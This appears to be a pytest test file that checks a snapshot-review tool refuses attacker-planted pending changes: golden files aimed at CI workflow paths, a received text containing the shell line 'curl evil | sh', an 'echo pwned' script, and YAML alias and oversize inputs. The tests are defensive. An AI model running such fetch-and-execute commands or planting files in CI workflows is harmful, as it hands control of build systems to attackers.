"""Attack: a pending change targets a file that is not a golden, or holds what is not one.

The golden a pending file replaces is mirrored from where the file sits in the artifact,
so an attacker places it anywhere in the project (a CI workflow); its ``received`` text and
its pending cassette are the attacker's too. Each is refused before anything is written.
"""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from artifacts import AUTUMN, Project, accepted_and_replays, make_project
from llm_server import FakeOpenAIServer

from pytest_llmseed.review import pending


@pytest.fixture
def project(
    pytester: pytest.Pytester, llm_env: FakeOpenAIServer, monkeypatch: pytest.MonkeyPatch
) -> Project:
    """A recorded project and the artifact of its drifted CI run."""
    return make_project(pytester, monkeypatch)


def _plant(project: Project, target: str, *, received: str | None = None) -> Path:
    """A pending golden (spring's, moved) whose mirrored target is ``target``."""
    planted = project.artifact / (target + ".llmseed-pending")
    planted.parent.mkdir(parents=True, exist_ok=True)
    data = yaml.safe_load(project.pending("spring").read_text())
    data["cassette"] = data["cassette_pending"] = None
    if received is not None:
        data["received"] = received
    planted.write_text(yaml.safe_dump(data))
    project.pending("spring").unlink()
    return project.root / target


@pytest.mark.parametrize(
    "target",
    [
        ".github/workflows/x.llm.yaml",  # a workflow CI would run
        "x.llm.yaml",  # the project's top level
        "pytest_llmseed_evil/__init__.llm.yaml",
    ],
)
def test_a_golden_target_outside_a_snapshots_folder_is_refused(
    target: str, project: Project, pytester: pytest.Pytester
) -> None:
    written = _plant(project, target)
    result = project.llmseed("accept", "--all")
    assert result.returncode == 2
    assert "a golden must be a *.llm.yaml file inside a __snapshots__/ folder" in result.stderr
    assert f"{Path(target).name}.llmseed-pending: nothing of this change" in result.stderr
    assert not written.exists()
    assert f"accepted {AUTUMN}" in result.stdout
    accepted_and_replays(project, pytester, "autumn")


@pytest.mark.parametrize(
    ("received", "refusal"),
    [
        ("#!/bin/sh\ncurl evil | sh\n", "the received text is not a golden"),
        ("llmseed_golden: 99\n", "the received text is not a golden"),
        ("a: &x [1]\nb: *x\n", "YAML anchor or alias"),
        ("llmseed_golden: 1\n" + "x" * (pending.MAX_GOLDEN + 1), "larger than"),
    ],
    ids=["a shell script", "a newer format", "aliases", "too large"],
)
def test_received_text_that_is_not_a_golden_is_refused(
    received: str, refusal: str, project: Project
) -> None:
    project.edit("spring", received=received)
    before = project.golden("spring").read_bytes()
    result = project.llmseed("accept", "--all")
    assert result.returncode == 2
    assert "test_x[spring].llm.yaml.llmseed-pending: nothing of this change" in result.stderr
    assert refusal in result.stderr
    assert project.golden("spring").read_bytes() == before
    assert f"accepted {AUTUMN}" in result.stdout


@pytest.mark.parametrize(
    ("text", "refusal"),
    [
        ("#!/bin/sh\necho pwned\n", "the pending cassette is not a cassette"),
        ("interactions: [{request: {}}]\n", "lacks request method/uri"),
        ("a: &x [1]\nb: [*x, *x]\n", "YAML anchor or alias"),
    ],
    ids=["a script", "a broken cassette", "aliases"],
)
def test_a_pending_cassette_that_is_not_a_cassette_is_refused(
    text: str, refusal: str, project: Project
) -> None:
    project.cassette_pending("spring").write_text(text)
    before = project.cassette("spring").read_bytes()
    result = project.llmseed("accept", "--all")
    assert result.returncode == 2
    assert "test_x[spring].llm.yaml.llmseed-pending: nothing of this change" in result.stderr
    assert refusal in result.stderr
    assert project.cassette("spring").read_bytes() == before
    assert f"accepted {AUTUMN}" in result.stdout


def test_status_and_review_show_both_targets(project: Project) -> None:
    status = project.llmseed("status")
    assert status.returncode == 1
    for topic in ("spring", "autumn"):
        assert f"golden:   __snapshots__/test_a/test_x[{topic}].llm.yaml" in status.stdout
        assert f"cassette: cassettes/test_a/test_x[{topic}].yaml (re-recorded" in status.stdout
    accepted = project.llmseed("accept", AUTUMN)
    assert "golden:   __snapshots__/test_a/test_x[autumn].llm.yaml" in accepted.stdout
    assert "cassette: cassettes/test_a/test_x[autumn].yaml (re-recorded" in accepted.stdout
